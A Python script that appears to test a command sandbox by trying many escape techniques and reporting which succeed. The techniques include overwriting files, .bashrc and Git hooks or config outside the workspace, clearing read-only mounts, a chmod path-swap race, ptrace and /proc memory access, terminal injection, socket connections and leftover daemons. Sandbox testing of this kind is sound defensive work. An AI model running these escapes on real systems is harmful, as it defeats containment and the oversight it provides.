"""A script for a sandboxed command: tries to get out, and prints the tries that worked, by the act they are about.

    escapes.py WORKSPACE OUTSIDE VICTIM TERMINAL PORT

OUTSIDE holds a file, sockets and a home; VICTIM is the process id of another program of the same user, TERMINAL one of
its terminals, PORT a service on this machine. It is run twice: some attacks take two commands.
"""

import ctypes
import fcntl
import json
import os
import platform
import signal
import socket
import stat
import struct
import sys
import threading
import time
from collections.abc import Callable

WORKSPACE, OUTSIDE = sys.argv[1], sys.argv[2]
VICTIM = int(sys.argv[3])
TERMINAL = sys.argv[4]
PORT = int(sys.argv[5])
FILE = f"{OUTSIDE}/file"
GIT = f"{WORKSPACE}/.git"
SUBMODULE = f"{GIT}/modules/sub"
BARE = f"{WORKSPACE}/nested/bare.git"

AT_FDCWD = -100
AT_RECURSIVE = 0x8000
CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000
FS_IOC_SETFLAGS = 0x40086602
FS_NODUMP_FL = 0x40
KEYCTL_GET_KEYRING_ID = 0
KEY_SPEC_USER_KEYRING = -4
MNT_DETACH = 2
MOUNT_ATTR_RDONLY = 1
MS_REMOUNT = 32
MS_BIND = 4096
PTRACE_ATTACH = 16
SYS_IO_URING_SETUP = 425
SYS_MOUNT_SETATTR = 442
SYS_FCHMODAT2 = 452
SYS_KEYCTL = {"x86_64": 250, "aarch64": 219}

SHARED_MEMORY_KEY = 0x534B

LIBC = ctypes.CDLL(None, use_errno=True)


def check_result(result: int) -> None:
    """Raise OSError if a C function failed."""
    if result == -1:
        raise OSError(ctypes.get_errno(), "refused")


def with_descriptor(act: Callable[[int], object]) -> Callable[[], object]:
    """Open the outside file for reading, which is allowed, and act on the descriptor."""
    return lambda: act(os.open(FILE, os.O_RDONLY))


def overwrite(path: str) -> None:
    with open(path, "w") as file:
        file.write("[core]\n\tfsmonitor = evil\n")


def rename_over(path: str) -> None:
    overwrite(f"{WORKSPACE}/.git/fresh")
    os.rename(f"{WORKSPACE}/.git/fresh", path)


def rename_away(path: str) -> None:
    os.rename(path, f"{path}-away")


def connect(address: str, kind: int = socket.SOCK_STREAM) -> None:
    socket.socket(socket.AF_UNIX, kind).connect(address)


def send_through_a_pair(address: str) -> None:
    sender, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    sender.sendto(b"x", address)


def trace() -> None:
    check_result(LIBC.ptrace(PTRACE_ATTACH, VICTIM, None, None))


def set_flags() -> None:
    """Set the flag "no dump", which any owner of a file may set."""
    fd = os.open(FILE, os.O_RDONLY)
    fcntl.ioctl(fd, FS_IOC_SETFLAGS, FS_NODUMP_FL.to_bytes(8, sys.byteorder))


def set_limits() -> None:
    import resource

    resource.prlimit(VICTIM, resource.RLIMIT_NOFILE, (8, 8))


def make_writable(*, in_namespace: bool) -> None:
    """Clear the read-only attribute of all mounts, then write outside."""
    if in_namespace:
        check_result(LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    attributes = struct.pack("QQQQ", 0, MOUNT_ATTR_RDONLY, 0, 0)  # the second field is attr_clr
    check_result(LIBC.syscall(SYS_MOUNT_SETATTR, AT_FDCWD, b"/", AT_RECURSIVE, attributes, len(attributes)))
    overwrite(FILE)


def set_priority() -> None:
    os.setpriority(os.PRIO_PROCESS, VICTIM, 15)


def attach_shared_memory() -> None:
    check_result(LIBC.shmget(SHARED_MEMORY_KEY, 0, 0))


def write_to_terminal() -> None:
    with open(TERMINAL, "w") as terminal:
        terminal.write("echo evil\n")


def set_up_terminal() -> None:
    import termios

    try:
        termios.tcgetattr(os.open(TERMINAL, os.O_RDONLY | os.O_NOCTTY))
    except termios.error as error:
        raise OSError("refused") from error


def leave_process(*, session: bool) -> None:
    """Leave a process behind that holds a lock. The test looks whether the lock can be had."""
    file = os.open(f"{WORKSPACE}/held", os.O_CREAT | os.O_RDWR)
    if os.fork() == 0:
        if session:
            os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for stream in (0, 1, 2):
                os.dup2(null, stream)
            fcntl.flock(file, fcntl.LOCK_SH)
            time.sleep(60)
        os._exit(0)
    os.wait()
    raise OSError("the test decides")


def hide_head(folder: str) -> None:
    """The first command moves HEAD away, so that the second one may not see a repository."""
    if os.path.exists(f"{folder}/HEAD"):
        os.rename(f"{folder}/HEAD", f"{folder}/H")
        raise OSError("the second command goes on")
    try:
        overwrite(f"{folder}/hooks/pre-commit")
    finally:
        os.rename(f"{folder}/H", f"{folder}/HEAD")


def replace_folder(folder: str) -> None:
    """Rename a folder above a guarded file, and put one of our own in its place."""
    os.rename(folder, f"{folder}-away")
    os.makedirs(folder)


def use_io_uring() -> None:
    check_result(LIBC.syscall(SYS_IO_URING_SETUP, 8, ctypes.create_string_buffer(200)))


def read_keys() -> None:
    number = SYS_KEYCTL[platform.machine()]
    check_result(LIBC.syscall(number, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0))


def race() -> None:
    """Exchange the path in memory while the call is on its way. Inside and outside have the same length."""
    outside = FILE.encode()
    inside = f"{WORKSPACE}/own".encode()
    inside = inside[: len(WORKSPACE)] + b"/" * (len(outside) - len(inside)) + inside[len(WORKSPACE) :]
    before = os.stat(FILE).st_mode
    path = ctypes.create_string_buffer(inside, max(len(inside), len(outside)) + 1)
    done = threading.Event()

    def exchange() -> None:
        while not done.is_set():
            ctypes.memmove(path, outside, len(outside))
            ctypes.memmove(path, inside, len(inside))

    thread = threading.Thread(target=exchange)
    thread.start()
    for _ in range(2_000):
        LIBC.chmod(path, 0o604)
    done.set()
    thread.join()
    if os.stat(FILE).st_mode == before:
        raise OSError("nothing outside changed")


ESCAPES: dict[str, dict[str, Callable[[], object]]] = {
    "writing, creating, renaming or deleting files outside the folder and a temporary one": {
        "write": lambda: overwrite(FILE),
        "create": lambda: overwrite(f"{OUTSIDE}/new"),
        "unlink": lambda: os.unlink(FILE),
        "rename": lambda: os.rename(FILE, f"{OUTSIDE}/moved"),
        "rename in": lambda: os.rename(FILE, f"{WORKSPACE}/moved"),
        "link in": lambda: os.link(FILE, f"{WORKSPACE}/linked"),
        "link out": lambda: os.link(f"{WORKSPACE}/own", f"{OUTSIDE}/linked"),
        "symlink": lambda: os.symlink("/", f"{OUTSIDE}/symlink"),
        "mkdir": lambda: os.mkdir(f"{OUTSIDE}/folder"),
        "mkfifo": lambda: os.mkfifo(f"{OUTSIDE}/fifo"),
        "mknod": lambda: os.mknod(f"{WORKSPACE}/disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0)),
        "shell start file": lambda: overwrite(f"{OUTSIDE}/.bashrc"),
        "core pattern": lambda: open("/proc/sys/kernel/core_pattern", "r+").close(),
        "remount": lambda: check_result(LIBC.mount(b"none", b"/", None, ctypes.c_ulong(MS_REMOUNT | MS_BIND), None)),
        "remount in a namespace of its own": lambda: make_writable(in_namespace=True),
        "mount attributes": lambda: make_writable(in_namespace=False),
        "unmount": lambda: check_result(LIBC.umount2(WORKSPACE.encode(), MNT_DETACH)),
        "through the root of another process": lambda: overwrite(f"/proc/{VICTIM}/root{FILE}"),
        "through the root of the parent": lambda: overwrite(f"/proc/{os.getppid()}/root{FILE}"),
    },
    "emptying files outside": {
        "truncate": lambda: os.truncate(FILE, 0),
        "open without writing": lambda: os.open(FILE, os.O_RDONLY | os.O_TRUNC),
    },
    "changing the mode, owner, times or attributes of files outside": {
        "chmod": lambda: os.chmod(FILE, 0o777),
        "fchmod": with_descriptor(lambda fd: os.fchmod(fd, 0o777)),
        "fchmodat2": lambda: check_result(LIBC.syscall(SYS_FCHMODAT2, AT_FDCWD, FILE.encode(), 0o777, 0)),
        "chmod of the folder": lambda: os.chmod(OUTSIDE, 0o777),
        "chmod through a link": lambda: (os.symlink(FILE, f"{WORKSPACE}/link"), os.chmod(f"{WORKSPACE}/link", 0o777)),
        "chmod through /proc": with_descriptor(lambda fd: os.chmod(f"/proc/self/fd/{fd}", 0o777)),
        "chmod while the path changes": race,
        "chown": lambda: os.chown(FILE, os.getuid(), os.getgid()),
        "fchown": with_descriptor(lambda fd: os.fchown(fd, -1, os.getgid())),
        "lchown": lambda: os.lchown(FILE, -1, os.getgid()),
        "utime": lambda: os.utime(FILE, (1, 1)),
        "futimens": with_descriptor(lambda fd: os.utime(fd, (1, 1))),
        "setxattr": lambda: os.setxattr(FILE, "user.x", b"1"),
        "fsetxattr": with_descriptor(lambda fd: os.setxattr(fd, "user.x", b"1")),
        "removexattr": lambda: os.removexattr(FILE, "user.there"),
        "file flags": set_flags,
    },
    "changing the hooks and configuration of Git repositories in the folder": {
        "hook": lambda: overwrite(f"{GIT}/hooks/pre-commit"),
        "hook in place": lambda: overwrite(f"{GIT}/hooks/commit-msg"),
        "hooks replaced": lambda: rename_away(f"{GIT}/hooks"),
        "config": lambda: overwrite(f"{GIT}/config"),
        "config renamed over": lambda: rename_over(f"{GIT}/config"),
        "config removed": lambda: os.unlink(f"{GIT}/config"),
        "config through a link": lambda: (
            os.symlink(f"{GIT}/config", f"{WORKSPACE}/to-config"),
            overwrite(f"{WORKSPACE}/to-config"),
        ),
        "config linked": lambda: os.link(f"{GIT}/config", f"{GIT}/other-name"),
        "config mode": lambda: os.chmod(f"{GIT}/config", 0o666),
        "attributes": lambda: overwrite(f"{GIT}/info/attributes"),
        "folder of the attributes": lambda: replace_folder(f"{GIT}/info"),
        "git folder renamed": lambda: rename_away(GIT),
        "HEAD away, then a hook": lambda: hide_head(GIT),
        "config of a submodule": lambda: overwrite(f"{SUBMODULE}/config"),
        "hook of a submodule": lambda: overwrite(f"{SUBMODULE}/hooks/post-checkout"),
        "folder of the submodules": lambda: replace_folder(f"{GIT}/modules"),
        "HEAD of a submodule away, then a hook": lambda: hide_head(SUBMODULE),
        "git file of a worktree": lambda: overwrite(f"{WORKSPACE}/tree/.git"),
        "git file replaced": lambda: rename_over(f"{WORKSPACE}/tree/.git"),
        "worktree administration": lambda: overwrite(f"{GIT}/worktrees/tree/commondir"),
        "folder of the worktrees": lambda: replace_folder(f"{GIT}/worktrees"),
        "config of a bare repository": lambda: overwrite(f"{BARE}/config"),
        "hooks where there were none": lambda: overwrite(f"{BARE}/hooks/pre-receive"),
        "HEAD of a bare repository away, then a hook": lambda: hide_head(BARE),
    },
    "connecting to Unix sockets (Docker, an SSH agent, tmux, a session bus)": {
        "by path": lambda: connect(f"{OUTSIDE}/stream"),
        "through a link": lambda: (
            os.symlink(f"{OUTSIDE}/stream", f"{WORKSPACE}/socket"),
            connect(f"{WORKSPACE}/socket"),
        ),
        "datagram": lambda: connect(f"{OUTSIDE}/datagram", socket.SOCK_DGRAM),
        "datagram by a pair": lambda: send_through_a_pair(f"{OUTSIDE}/datagram"),
        "abstract": lambda: connect(f"\0skillshelf-{VICTIM}"),
        "io_uring, which no filter sees": use_io_uring,
    },
    "reading or changing the memory and environment of your other processes": {
        "ptrace": trace,
        "memory": lambda: os.open(f"/proc/{VICTIM}/mem", os.O_RDWR),
        "environment": lambda: os.open(f"/proc/{VICTIM}/environ", os.O_RDONLY),
    },
    "sending signals to your other processes": {
        "signal": lambda: os.kill(VICTIM, signal.SIGCONT),
    },
    "changing the priority and the limits of your other processes": {"limits": set_limits, "priority": set_priority},
    "reading and changing the keys that the kernel holds for you": {"keyring": read_keys},
    "the System V shared memory of your other processes": {"attach": attach_shared_memory},
    "writing to your terminals and changing their settings": {"write": write_to_terminal, "settings": set_up_terminal},
    "reading what you type in other terminals": {
        "open": lambda: os.open(TERMINAL, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
    },
    "leaving processes behind": {
        "daemon": lambda: leave_process(session=True),
        "background": lambda: leave_process(session=False),
    },
    "the network, including services on this machine": {
        "tcp": lambda: socket.create_connection(("127.0.0.1", PORT), timeout=20),
        "tcp by another name": lambda: socket.create_connection(("localhost", PORT), timeout=20),
        "raw packets": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
        "the outside": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("192.0.2.1", 53)),
    },
}


def works(attack: Callable[[], object]) -> bool:
    """Run an attack in a process of its own: one can move to another namespace, or lose rights."""
    child = os.fork()
    if child == 0:
        try:
            attack()
        except OSError:
            os._exit(1)
        os._exit(0)
    _, status = os.waitpid(child, 0)
    return status == 0


def main() -> None:
    overwrite(f"{WORKSPACE}/own")
    successes = {act: [name for name, attack in attacks.items() if works(attack)] for act, attacks in ESCAPES.items()}
    print(json.dumps(successes))


if __name__ == "__main__":
    main()
